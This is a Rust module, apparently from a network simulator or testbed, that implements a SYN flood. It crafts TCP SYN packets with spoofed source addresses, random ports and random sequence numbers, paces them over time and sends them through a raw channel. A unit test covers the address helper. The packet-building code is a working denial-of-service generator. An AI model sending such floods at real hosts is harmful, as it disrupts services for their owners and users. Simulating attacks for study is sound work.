//! A SYN flood (RFC 4987 §2): SYNs from addresses that are nobody's, so that every one of them leaves its victim with a
//! half-open connection that no ACK completes. Addresses, ports and sequence numbers are drawn; nothing comes back.

use std::net::{Ipv4Addr, SocketAddr};

use etherparse::{PacketBuilder, TcpOptionElement};

use super::Attacker;
use crate::event::Deed;
use crate::role::config::SynFlood;

/// As any host's.
const TIME_TO_LIVE: u8 = 64;

/// Bytes that are drawn for a SYN: address, port, sequence number.
const DRAWN: usize = 10;

pub(super) async fn send(attacker: &Attacker, flood: &SynFlood) -> Result<(), String> {
    let SocketAddr::V4(to) = flood.to else {
        return Err("only IPv4 hosts are flooded here".into());
    };
    let (network, prefix) = flood.sources;
    let network_end = SocketAddr::new(network.into(), 0);
    let deed = Deed::SynFlood {
        syns: flood.syns,
        prefix,
    };
    attacker.attacked(network_end, flood.to, deed);
    let mut drawn = vec![0; flood.syns as usize * DRAWN];
    attacker.node.chance.fill("syn-flood", &mut drawn);
    let begun = attacker.node.clock.now();
    for (n, drawn) in (0_u32..).zip(drawn.chunks_exact(DRAWN)) {
        let at = begun + flood.over * n / flood.syns;
        let wait = at.saturating_since(attacker.node.clock.now());
        attacker.node.clock.sleep(wait).await;
        let [a, b, c, d, port_a, port_b, rest @ ..] = drawn else {
            continue;
        };
        let source = within(network, prefix, u32::from_be_bytes([*a, *b, *c, *d]));
        // Above the well-known ones, as a client's.
        let port = u16::from_be_bytes([*port_a, *port_b]) | 0x8000;
        let sequence = rest.iter().fold(0, |n, byte| n << 8 | u32::from(*byte));
        let syn = PacketBuilder::ipv4(source.octets(), to.ip().octets(), TIME_TO_LIVE)
            .tcp(port, to.port(), sequence, 64_240)
            .syn()
            .options(&[
                TcpOptionElement::MaximumSegmentSize(1_460),
                TcpOptionElement::SelectiveAcknowledgementPermitted,
                TcpOptionElement::Noop,
                TcpOptionElement::WindowScale(7),
            ]);
        let syn = syn.map_err(|e| format!("no packet: {e}"))?;
        let mut bytes = Vec::new();
        syn.write(&mut bytes, &[])
            .map_err(|e| format!("no packet: {e}"))?;
        attacker.raw.send(bytes);
    }
    Ok(())
}

/// An address of the range that a machine could have: neither the first nor the last.
fn within(network: Ipv4Addr, prefix: u8, drawn: u32) -> Ipv4Addr {
    let size = 1_u64 << (32 - u32::from(prefix));
    let host = 1 + u64::from(drawn) % (size - 2);
    // Smaller than the range.
    Ipv4Addr::from_bits(network.to_bits() + host as u32)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sources_are_hosts_of_the_range() {
        let network = Ipv4Addr::new(192, 0, 2, 0);
        assert_eq!(within(network, 30, 0), Ipv4Addr::new(192, 0, 2, 1));
        assert_eq!(within(network, 30, 1), Ipv4Addr::new(192, 0, 2, 2));
        assert_eq!(within(network, 30, 2), Ipv4Addr::new(192, 0, 2, 1));
        assert_eq!(within(network, 24, 253), Ipv4Addr::new(192, 0, 2, 254));
        assert_eq!(within(network, 24, 254), Ipv4Addr::new(192, 0, 2, 1));
    }
}
